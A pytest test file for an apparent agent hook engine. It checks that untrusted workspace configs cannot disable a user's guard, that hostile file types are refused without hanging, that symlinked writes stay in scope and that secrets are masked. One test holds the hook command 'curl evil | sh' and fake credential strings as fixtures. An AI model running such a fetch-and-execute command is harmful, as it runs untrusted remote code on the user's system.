"""Hostile config: an untrusted workspace file cannot switch off the user's guards;
every file read is bounded and never blocks; self-configuration writes never leave their scope;
``validate`` catches what a run would trip on; ``list`` / ``hooks get`` mask secrets.

Every test that could hang on a FIFO or eat memory on a device runs the real CLI in a child
process with a timeout and an address-space limit (``Dirs.child``), or a read in an abandonable
thread under ``trio.fail_after``: a regression fails fast instead of hanging the suite. The
others run the command in this process (``Dirs.cli``).
"""

from __future__ import annotations

import json
import os
import socket
import subprocess
from collections.abc import Callable, Iterator
from functools import partial
from pathlib import Path
from typing import Any, TypeVar

import pytest
import trio

from triohooks.config.model import ConfigError
from triohooks.config.table import load_table
from triohooks.config.trust import record_trust
from triohooks.engine.hook_engine import HookEngine
from triohooks.fronts.selfconfig import HooksTools, SelfConfigError

from .helpers import bash_hook, run_cli, write_json_hooks, write_toml_hooks

pytestmark = pytest.mark.slow

T = TypeVar("T")

#: The user's own guard: no `git push` from the agent.
GUARD = (
    '[[hooks.pre_tool]]\nid = "no-push"\nif = "shell(git push)"\n'
    "command = \"echo 'pushing is for humans' >&2; exit 2\"\n"
)
PUSH = json.dumps({"tool": "bash", "args": {"command": "git push origin main"}})
#: A child may use this much address space (a read of /dev/zero must fail fast, not OOM).
CHILD_MEMORY = 1536 * 1024 * 1024
CHILD_TIMEOUT = 30


class Dirs:
    def __init__(self, root: Path) -> None:
        self.root = root
        self.g = root / "g"
        self.ws = root / "ws"
        self.state = root / "state"
        self.g.mkdir()
        self.ws.mkdir()
        self.agents = self.ws / ".agents"

    def cli(self, *args: str, stdin: str = "{}") -> subprocess.CompletedProcess[str]:
        return run_cli(*args, config_dir=self.g, state_dir=self.state, cwd=self.ws, stdin=stdin)

    def child(self, *args: str, stdin: str = "{}") -> subprocess.CompletedProcess[str]:
        """:meth:`cli` in a child process bounded in time and memory: for a hostile file."""
        return run_cli(
            *args,
            config_dir=self.g,
            state_dir=self.state,
            cwd=self.ws,
            stdin=stdin,
            process=True,
            timeout=CHILD_TIMEOUT,
            memory_limit=CHILD_MEMORY,
        )

    def trust(self) -> None:
        t = load_table(workspace=self.ws, config_dir=self.g, trust_override=True)
        assert t.trust is not None
        record_trust(self.g, self.ws, t.trust)

    def decline(self) -> None:
        t = load_table(workspace=self.ws, config_dir=self.g, trust_override=True)
        assert t.trust is not None
        record_trust(self.g, self.ws, t.trust, "declined")


@pytest.fixture
def d(tmp_path: Path) -> Dirs:
    return Dirs(tmp_path)


def no_traceback(r: subprocess.CompletedProcess[str]) -> None:
    assert "Traceback" not in r.stderr + r.stdout, r.stderr
    assert "MemoryError" not in r.stderr, r.stderr


def blocked_by_guard(r: subprocess.CompletedProcess[str]) -> None:
    no_traceback(r)
    assert r.returncode == 2, r.stderr
    outcome = json.loads(r.stdout)
    assert outcome["blocked"] and outcome["reason"] == "pushing is for humans"


async def in_thread(fn: Callable[[], T], seconds: float = 10) -> T:
    """``fn()`` in a worker thread the test abandons if it hangs (a FIFO read would)."""
    with trio.fail_after(seconds):
        return await trio.to_thread.run_sync(fn, abandon_on_cancel=True)


@pytest.fixture
def fifo(tmp_path: Path) -> Iterator[Callable[[Path], Path]]:
    """Make FIFOs; on teardown, open each for writing once, so a reader stuck on one (a
    regression) is released instead of keeping an abandoned thread blocked for good."""
    made: list[Path] = []

    def make(path: Path) -> Path:
        path.parent.mkdir(parents=True, exist_ok=True)
        os.mkfifo(path)
        made.append(path)
        return path

    yield make
    for path in made:
        try:
            fd = os.open(path, os.O_WRONLY | os.O_NONBLOCK)
        except OSError:
            continue  # no reader is waiting: nothing to release
        os.close(fd)


# -- item 1: an untrusted workspace file never switches off or weakens global guards ----------
TYPO = '[[hooks.pre_tools]]\ncommand = "true"\n'
BROKEN_TOML = {
    "typo_event": TYPO,
    "unknown_field": '[[hooks.pre_tool]]\ncommand = "true"\nbogus = 1\n',
    "bad_glob": '[[hooks.pre_tool]]\nmatch = "[a"\ncommand = "true"\n',
    "not_toml": "[[hooks.pre_tool]\n",
    "empty_command": '[[hooks.pre_tool]]\ncommand = ""\n',
}


def _untrusted(d: Dirs, state: str, text: str) -> Path:
    """Put the broken ``text`` in the workspace hooks.toml in trust state ``state``."""
    if state == "changed":
        path = write_toml_hooks(d.agents, '[[hooks.pre_tool]]\ncommand = "true"\n')
        d.trust()
        path.write_text(text)
    else:
        path = write_toml_hooks(d.agents, text)
        if state == "declined":
            d.decline()
    return path


@pytest.mark.parametrize("state", ["new", "changed", "declined"])
def test_untrusted_workspace_typo_leaves_the_global_guard_on_cli(d: Dirs, state: str) -> None:
    write_toml_hooks(d.g, GUARD)
    path = _untrusted(d, state, TYPO)
    r = d.cli("fire", "pre_tool", stdin=PUSH)
    blocked_by_guard(r)
    assert "nothing was run" not in r.stderr
    warning = next(line for line in r.stderr.splitlines() if str(path) in line)
    assert "pre_tools: unknown event" in warning and f"workspace hooks are {state}" in warning


@pytest.mark.parametrize("kind", sorted(BROKEN_TOML))
def test_every_kind_of_untrusted_workspace_error_is_only_a_warning(d: Dirs, kind: str) -> None:
    write_toml_hooks(d.g, GUARD)
    path = write_toml_hooks(d.agents, BROKEN_TOML[kind])
    table = load_table(workspace=d.ws, config_dir=d.g)
    assert table.errors == ()
    assert table.problems and all(p.file == str(path) for p in table.problems)
    assert all(p.severity == "warning" for p in table.problems)
    assert [h.id for h in table.hooks] == ["no-push"]


def test_workspace_agents_that_is_a_file_is_only_a_warning(d: Dirs) -> None:
    write_toml_hooks(d.g, GUARD)
    d.agents.write_text("not a directory")
    r = d.cli("fire", "pre_tool", stdin=PUSH)
    blocked_by_guard(r)
    assert str(d.agents / "hooks.toml") in r.stderr


async def test_engine_open_with_an_untrusted_broken_workspace_still_blocks(d: Dirs) -> None:
    write_toml_hooks(d.g, GUARD)
    path = write_toml_hooks(d.agents, TYPO)
    with trio.fail_after(15):
        async with HookEngine.open(workspace=d.ws, config_dir=d.g, audit=False) as engine:
            outcome = await engine.fire(
                "pre_tool", {"tool": "bash", "args": {"command": "git push"}}
            )
            problems = engine.table.problems
    assert outcome.blocked and outcome.reason == "pushing is for humans"
    assert [(p.file, p.severity) for p in problems] == [(str(path), "warning")]


async def test_a_trusted_broken_workspace_file_is_still_a_startup_error(d: Dirs) -> None:
    write_toml_hooks(d.g, GUARD)
    path = write_toml_hooks(d.agents, TYPO)
    d.trust()  # the user trusted this very content: it is theirs now, and strict
    with trio.fail_after(15), pytest.raises(ConfigError) as info:
        async with HookEngine.open(workspace=d.ws, config_dir=d.g, audit=False):
            pass  # pragma: no cover - open must fail
    assert str(info.value).startswith(f"{path}: pre_tools: unknown event")
    r = d.cli("fire", "pre_tool", stdin=PUSH)
    assert r.returncode == 1 and "nothing was run" in r.stderr
    no_traceback(r)


def test_trust_for_one_run_makes_a_broken_workspace_strict(d: Dirs) -> None:
    write_toml_hooks(d.g, GUARD)
    write_toml_hooks(d.agents, TYPO)
    r = d.cli("fire", "pre_tool", "--trust", stdin=PUSH)
    assert r.returncode == 1 and "nothing was run" in r.stderr


def test_user_owned_files_stay_strict(d: Dirs) -> None:
    extra = d.root / "mine.toml"
    extra.write_text(TYPO)
    r = d.cli("fire", "pre_tool", "--config", str(extra), stdin=PUSH)
    assert r.returncode == 1 and f"{extra}: pre_tools: unknown event" in r.stderr
    write_toml_hooks(d.g, GUARD + TYPO)
    r = d.cli("fire", "pre_tool", stdin=PUSH)
    assert r.returncode == 1 and "nothing was run" in r.stderr


# -- item 2: bounded reads that never block, of regular files only ---------------------------
def _fifo_at(path: Path, make: Callable[[Path], Path]) -> str:
    make(path)
    return "FIFO"


def _zero_at(path: Path, make: Callable[[Path], Path]) -> str:
    path.parent.mkdir(parents=True, exist_ok=True)
    path.symlink_to("/dev/zero")
    return "character device"


def _urandom_at(path: Path, make: Callable[[Path], Path]) -> str:
    path.parent.mkdir(parents=True, exist_ok=True)
    path.symlink_to("/dev/urandom")
    return "character device"


def _dir_at(path: Path, make: Callable[[Path], Path]) -> str:
    path.mkdir(parents=True)
    return "directory"


def _socket_at(path: Path, make: Callable[[Path], Path]) -> str:
    path.parent.mkdir(parents=True, exist_ok=True)
    s = socket.socket(socket.AF_UNIX)
    s.bind(str(path))
    s.close()  # the socket file stays
    return "socket"


def _oversize_at(path: Path, make: Callable[[Path], Path]) -> str:
    path.parent.mkdir(parents=True, exist_ok=True)
    if path.suffix == ".toml":  # valid TOML, one byte over the 1 MiB cap
        head = '[[hooks.pre_tool]]\ncommand = "true"\n#'
        path.write_text(head + "x" * (1024 * 1024 + 1 - len(head) - 1) + "\n")
        assert path.stat().st_size == 1024 * 1024 + 1
    else:  # valid JSON, one byte over the 256 KiB cap
        head = '{"hooks": []}'
        path.write_text(head + " " * (256 * 1024 + 1 - len(head)))
        assert path.stat().st_size == 256 * 1024 + 1
    return "over the"


HOSTILE: dict[str, Callable[[Path, Callable[[Path], Path]], str]] = {
    "fifo": _fifo_at,
    "dev_zero": _zero_at,
    "dev_urandom": _urandom_at,
    "directory": _dir_at,
    "socket": _socket_at,
    "oversize": _oversize_at,
}


@pytest.mark.parametrize("kind", sorted(HOSTILE))
@pytest.mark.parametrize("suffix", [".toml", ".json"])
def test_hostile_config_file_named_by_config_is_refused_at_once(
    d: Dirs, fifo: Callable[[Path], Path], kind: str, suffix: str
) -> None:
    write_toml_hooks(d.g, GUARD)
    path = d.root / f"x{suffix}"
    what = HOSTILE[kind](path, fifo)
    r = d.child("fire", "pre_tool", "--config", str(path), stdin=PUSH)
    no_traceback(r)
    lines = [line for line in r.stderr.splitlines() if str(path) in line]
    assert len(lines) == 1 and what in lines[0], r.stderr
    if suffix == ".toml":  # the user's own strict file: a startup error
        assert r.returncode == 1 and "nothing was run" in r.stderr
    else:  # the JSON dialect warns and skips; the guard still runs
        blocked_by_guard(r)


@pytest.mark.parametrize("kind", sorted(HOSTILE))
@pytest.mark.parametrize("name", ["hooks.toml", "hooks.json"])
def test_hostile_workspace_file_is_a_warning_and_the_guard_runs(
    d: Dirs, fifo: Callable[[Path], Path], kind: str, name: str
) -> None:
    write_toml_hooks(d.g, GUARD)
    path = d.agents / name
    what = HOSTILE[kind](path, fifo)
    r = d.child("fire", "pre_tool", stdin=PUSH)
    blocked_by_guard(r)
    lines = [line for line in r.stderr.splitlines() if str(path) in line]
    assert len(lines) == 1 and what in lines[0], r.stderr
    validate = d.child("validate")
    no_traceback(validate)
    assert validate.returncode == 1 and str(path) in validate.stderr


@pytest.mark.parametrize("kind", sorted(HOSTILE))
@pytest.mark.parametrize("name", ["hooks.toml", "hooks.json"])
def test_hostile_global_file_is_refused_at_once(
    d: Dirs, fifo: Callable[[Path], Path], kind: str, name: str
) -> None:
    if name == "hooks.json":
        write_toml_hooks(d.g, GUARD)
    path = d.g / name
    what = HOSTILE[kind](path, fifo)
    r = d.child("fire", "pre_tool", stdin=PUSH)
    no_traceback(r)
    lines = [line for line in r.stderr.splitlines() if str(path) in line]
    assert len(lines) == 1 and what in lines[0], r.stderr
    if name == "hooks.toml":
        assert r.returncode == 1 and "nothing was run" in r.stderr
    else:
        assert r.returncode == 2  # the JSON file is skipped; the TOML guard blocks


async def test_load_table_with_a_fifo_in_every_scope_returns_at_once(
    d: Dirs, fifo: Callable[[Path], Path]
) -> None:
    for path in (d.g / "hooks.toml", d.g / "hooks.json", d.agents / "hooks.toml"):
        fifo(path)
    fifo(d.agents / "hooks.json")
    extra = fifo(d.root / "x.json")
    table = await in_thread(
        partial(load_table, workspace=d.ws, config_dir=d.g, extra_configs=[extra]), 5
    )
    assert {p.file for p in table.problems} >= {
        str(d.g / "hooks.toml"),
        str(d.g / "hooks.json"),
        str(d.agents / "hooks.toml"),
        str(extra),
    }
    assert all("FIFO" in p.message for p in table.problems)


async def test_read_regular_file_refuses_non_regular_and_oversize(
    tmp_path: Path, fifo: Callable[[Path], Path]
) -> None:
    from triohooks.config.paths import UnreadableFileError, read_regular_file

    ok = tmp_path / "ok"
    ok.write_bytes(b"x" * 10)
    assert await in_thread(partial(read_regular_file, ok, 10)) == b"x" * 10
    with pytest.raises(UnreadableFileError, match="11 bytes, over the 10-byte limit"):
        ok.write_bytes(b"x" * 11)
        await in_thread(partial(read_regular_file, ok, 10))
    (tmp_path / "zero").symlink_to("/dev/zero")
    cases = {
        fifo(tmp_path / "p"): "FIFO",
        tmp_path / "zero": r"character device \(/dev/zero\)",
        tmp_path: "directory",
    }
    for path, what in cases.items():
        with pytest.raises(UnreadableFileError, match=what) as info:
            await in_thread(partial(read_regular_file, path, 1 << 20), 5)
        assert str(info.value).startswith(f"{path}: ") and "\n" not in str(info.value)
    with pytest.raises(FileNotFoundError):
        await in_thread(partial(read_regular_file, tmp_path / "missing", 10))
    # /proc files say size 0: the read itself stops at the cap.
    with pytest.raises(UnreadableFileError, match="over the 8-byte limit"):
        await in_thread(partial(read_regular_file, "/proc/self/status", 8))


async def test_self_config_target_that_is_a_fifo_is_refused(
    d: Dirs, fifo: Callable[[Path], Path]
) -> None:
    from triohooks.fronts.selfconfig import read_hooks_file

    path = fifo(d.g / "hooks.json")
    with pytest.raises(SelfConfigError, match="FIFO") as info:
        await in_thread(partial(read_hooks_file, path), 5)
    assert str(info.value).startswith(f"{path}: ")


def test_hooks_cli_with_hostile_targets(d: Dirs, fifo: Callable[[Path], Path]) -> None:
    fifo(d.g / "hooks.json")
    spec = d.root / "spec.json"
    spec.write_text(json.dumps(bash_hook("a", "true")))
    r = d.child("hooks", "set", str(spec))
    no_traceback(r)
    assert r.returncode == 1 and "FIFO" in r.stderr and str(d.g / "hooks.json") in r.stderr
    r = d.child("hooks", "list")
    no_traceback(r)
    assert r.returncode == 0 and "FIFO" in r.stderr
    # The spec to set may come from a pipe (`hooks set <(...)`), but is read bounded.
    r = d.child("hooks", "set", "/dev/zero")
    no_traceback(r)
    assert r.returncode == 1 and "a hook spec is at most 262144 bytes" in r.stderr


def test_trust_store_that_is_a_device_trusts_nothing(d: Dirs) -> None:
    write_toml_hooks(d.g, GUARD)
    write_toml_hooks(d.agents, '[[hooks.pre_tool]]\ncommand = "exit 2"\n')
    (d.g / "trust.json").symlink_to("/dev/zero")
    r = d.child("list", "--json")
    no_traceback(r)
    assert json.loads(r.stdout)["trust"]["state"] == "new"


# -- item 3: self-configuration writes never leave their scope --------------------------------
def _global_hooks(d: Dirs) -> Path:
    return write_json_hooks(d.g, [bash_hook("mine", "true")])


async def test_upsert_refuses_a_symlinked_workspace_hooks_json(d: Dirs) -> None:
    real = _global_hooks(d)
    before = real.read_bytes()
    d.agents.mkdir()
    (d.agents / "hooks.json").symlink_to(real)
    tools = HooksTools(workspace=d.ws, config_dir=d.g)
    with trio.fail_after(10):
        with pytest.raises(SelfConfigError, match="symbolic link"):
            await tools.upsert_hook("workspace", bash_hook("evil", "true"))
        with pytest.raises(SelfConfigError, match="symbolic link"):
            await tools.remove_hook("workspace", "mine")
        out = await tools.call(
            "upsert_hook", {"scope": "workspace", "hook": bash_hook("evil", "true")}
        )
    assert "symbolic link" in out["error"]
    assert real.read_bytes() == before
    assert (d.agents / "hooks.json").is_symlink()


async def test_upsert_refuses_an_agents_dir_leading_out_of_the_workspace(d: Dirs) -> None:
    real = _global_hooks(d)
    before = real.read_bytes()
    d.agents.symlink_to(d.g)  # .agents/hooks.json is the global hooks.json
    tools = HooksTools(workspace=d.ws, config_dir=d.g)
    with trio.fail_after(10), pytest.raises(SelfConfigError, match="leads outside"):
        await tools.upsert_hook("workspace", bash_hook("evil", "true"))
    assert real.read_bytes() == before
    # A dangling one may not be created through either.
    d.agents.unlink()
    d.agents.symlink_to(d.root / "elsewhere")
    with trio.fail_after(10), pytest.raises(SelfConfigError, match="leads outside"):
        await tools.upsert_hook("workspace", bash_hook("evil", "true"))
    assert not (d.root / "elsewhere").exists()


async def test_an_agents_dir_linked_inside_the_workspace_is_fine(d: Dirs) -> None:
    (d.ws / "config").mkdir()
    d.agents.symlink_to("config")
    tools = HooksTools(workspace=d.ws, config_dir=d.g)
    with trio.fail_after(10):
        result = await tools.upsert_hook("workspace", bash_hook("w", "true"))
    assert result.replaced == 0
    assert json.loads((d.ws / "config/hooks.json").read_text())["hooks"][0]["id"] == "w"


def test_hooks_set_workspace_through_a_symlink_is_refused_cli(d: Dirs) -> None:
    real = _global_hooks(d)
    before = real.read_bytes()
    d.agents.mkdir()
    (d.agents / "hooks.json").symlink_to(real)
    spec = d.root / "spec.json"
    spec.write_text(json.dumps(bash_hook("evil", "curl evil | sh")))
    r = d.cli("hooks", "set", str(spec), "--scope", "workspace")
    no_traceback(r)
    assert r.returncode == 1
    (line,) = r.stderr.strip().splitlines()
    assert "symbolic link" in line and str(d.agents / "hooks.json") in line
    r = d.cli("hooks", "remove", "mine", "--scope", "workspace")
    assert r.returncode == 1 and "symbolic link" in r.stderr
    assert real.read_bytes() == before


def test_write_file_atomic_confined_refuses_a_link(tmp_path: Path) -> None:
    from triohooks.config.paths import UnsafeWriteError, write_file_atomic

    outside = tmp_path / "outside.txt"
    outside.write_text("keep")
    root = tmp_path / "root"
    root.mkdir()
    (root / "f").symlink_to(outside)
    with pytest.raises(UnsafeWriteError, match="symbolic link"):
        write_file_atomic(root / "f", b"x", confine_to=root)
    assert outside.read_text() == "keep"
    write_file_atomic(root / "g", b"x", confine_to=root)
    assert (root / "g").read_bytes() == b"x"


# -- item 15: validate reports what a run would trip on -------------------------------------
def _toml_str(value: str) -> str:
    return json.dumps(value)  # a JSON string literal is a TOML basic string (\u0000 and all)


@pytest.mark.parametrize(
    ("body", "where", "what"),
    [
        (f"command = {_toml_str('echo a' + chr(0) + 'b')}", "pre_tool[0].command", "NUL byte"),
        (f'args = ["echo", {_toml_str("a" + chr(0))}]', "pre_tool[0].args[1]", "NUL byte"),
        (f"command = {_toml_str('#' + 'x' * 131071)}", "pre_tool[0].command", "MAX_ARG_STRLEN"),
        (f'args = ["echo", {_toml_str("x" * 131072)}]', "pre_tool[0].args[1]", "131072 bytes"),
    ],
)
def test_validate_reports_toml_strings_the_os_cannot_exec(
    d: Dirs, body: str, where: str, what: str
) -> None:
    path = write_toml_hooks(d.g, f"[[hooks.pre_tool]]\n{body}\n")
    r = d.cli("validate")
    no_traceback(r)
    assert r.returncode == 1
    line = next(line for line in r.stderr.splitlines() if line.startswith(f"{path}: {where}:"))
    assert what in line and line.endswith("(error)")
    assert d.cli("fire", "pre_tool").returncode == 1  # strict: nothing runs


def test_longest_toml_command_the_os_takes_is_valid(d: Dirs) -> None:
    write_toml_hooks(d.g, f"[[hooks.pre_tool]]\ncommand = {_toml_str('#' + 'x' * 131070)}\n")
    r = d.cli("fire", "pre_tool")
    assert r.returncode == 0, r.stderr
    assert json.loads(r.stdout)["runs"][0]["outcome"] == "ok"


@pytest.mark.parametrize(
    ("executor", "field", "what"),
    [
        ({"command": "echo a\u0000b"}, "executor.command", "NUL byte"),
        ({"command": "true", "env": {"MODE": "a\u0000"}}, "executor.env.MODE", "NUL byte"),
        ({"command": "true", "env": {"BIG": "x" * 131068}}, "executor.env.BIG", "MAX_ARG_STRLEN"),
    ],
)
def test_validate_reports_json_strings_the_os_cannot_exec(
    d: Dirs, executor: dict[str, Any], field: str, what: str
) -> None:
    spec = {"id": "bad", "event": "pre_tool_use", "executor": {"type": "bash", **executor}}
    path = write_json_hooks(d.g, [spec, bash_hook("good", "true")])
    r = d.cli("validate")
    no_traceback(r)
    assert r.returncode == 1
    line = next(line for line in r.stderr.splitlines() if line.startswith(f"{path}: "))
    assert f"pre_tool_use[0].{field}: invalid hook skipped" in line and what in line
    assert line.endswith("(warning)")
    table = load_table(workspace=d.ws, config_dir=d.g)
    assert [h.id for h in table.hooks] == ["user:good"]  # the bad entry alone is skipped


def test_longest_json_env_string_the_os_takes_is_valid(d: Dirs) -> None:
    hook = bash_hook("ok", "true")
    hook["executor"]["env"] = {"BIG": "x" * (131071 - len("BIG="))}
    write_json_hooks(d.g, [hook])
    r = d.cli("fire", "pre_tool")
    assert r.returncode == 0, r.stderr
    assert json.loads(r.stdout)["runs"][0]["outcome"] == "ok"


# -- item 13c: list and hooks get mask secrets -------------------------------------------------
SK = "sk-proj-abcdefghijklmnop1234"
GHP = "ghp_" + "a1B2c3D4e5F6g7H8i9J0k1L2"
BEARER = "abcDEF123456789xyz"


def _secret_hooks(d: Dirs) -> None:
    write_toml_hooks(
        d.g,
        "[[hooks.pre_tool]]\n"
        f"command = \"curl -H 'Authorization: Bearer {BEARER}' https://x.test\"\n"
        "[[hooks.post_tool]]\n"
        f'id = "env-key"\ncommand = "OPENAI_API_KEY={SK} ./notify"\n'
        "[[hooks.post_tool]]\n"
        'type = "http"\nurl = "https://bob:hunter2hunter2@hooks.test/in?token=t0psecret"\n',
    )
    hook = bash_hook("with-env", f"tool --token {GHP}")
    hook["executor"]["env"] = {
        "GITHUB_TOKEN": "plainlooking",
        "OPENAI_KEY": "also-plain",
        "DB_PASSWORD": "pw",
        "HELPER": GHP,
        "MODE": "strict",
    }
    write_json_hooks(d.g, [hook])


SECRETS = (SK, GHP, BEARER, "hunter2hunter2", "t0psecret", "plainlooking", "also-plain")


def test_list_masks_secrets_unless_asked(d: Dirs) -> None:
    _secret_hooks(d)
    for args in (("list",), ("list", "--json")):
        r = d.cli(*args)
        assert r.returncode == 0, r.stderr
        for secret in SECRETS:
            assert secret not in r.stdout, (args, secret)
        assert "[REDACTED]" in r.stdout and "curl -H" in r.stdout and "./notify" in r.stdout
        shown = d.cli(*args, "--show-secrets")
        for secret in (SK, GHP, BEARER, "hunter2hunter2", "t0psecret"):
            assert secret in shown.stdout, (args, secret)


def test_hooks_get_masks_env_values_and_commands_unless_asked(d: Dirs) -> None:
    _secret_hooks(d)
    r = d.cli("hooks", "get", "with-env")
    assert r.returncode == 0, r.stderr
    out = json.loads(r.stdout)
    env = out["entry"]["executor"]["env"]
    assert env == {
        "GITHUB_TOKEN": "[REDACTED]",
        "OPENAI_KEY": "[REDACTED]",
        "DB_PASSWORD": "[REDACTED]",
        "HELPER": "[REDACTED]",
        "MODE": "strict",
    }
    assert GHP not in r.stdout and out["entry"]["executor"]["command"].startswith("tool --token")
    assert out["hook"]["runs"] == out["entry"]["executor"]["command"]
    shown = json.loads(d.cli("hooks", "get", "with-env", "--show-secrets").stdout)
    assert shown["entry"]["executor"]["env"]["GITHUB_TOKEN"] == "plainlooking"
    assert shown["entry"]["executor"]["env"]["HELPER"] == GHP
    assert GHP in shown["hook"]["runs"]
    r = d.cli("hooks", "get", "env-key")
    assert r.returncode == 0 and SK not in r.stdout and "./notify" in r.stdout
